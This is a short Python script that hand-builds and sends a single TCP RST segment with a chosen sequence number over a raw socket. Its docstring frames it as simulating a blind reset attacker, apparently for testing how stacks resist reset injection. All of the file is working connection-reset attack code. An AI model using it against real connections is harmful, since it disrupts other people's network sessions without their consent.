#! /usr/bin/env python3
"""rst-inject.py: sends one TCP RST with a chosen sequence number.

  rst-inject.py SRC SPORT DST DPORT SEQ

Builds the IPv4 TCP segment by hand and sends it on a raw socket, as a
blind attacker would (it does not know the connection's sequence).
"""
import socket
import struct
import sys

from pktutil import checksum


def main():
    src, sport, dst, dport, seq = sys.argv[1:6]
    sport, dport, seq = int(sport), int(dport), int(seq)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x04,
                      0, 0, 0)
    pseudo = struct.pack("!4s4sBBH", socket.inet_aton(src),
                         socket.inet_aton(dst), 0, socket.IPPROTO_TCP,
                         len(tcp))
    csum = checksum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    s.sendto(tcp, (dst, 0))


if __name__ == "__main__":
    main()
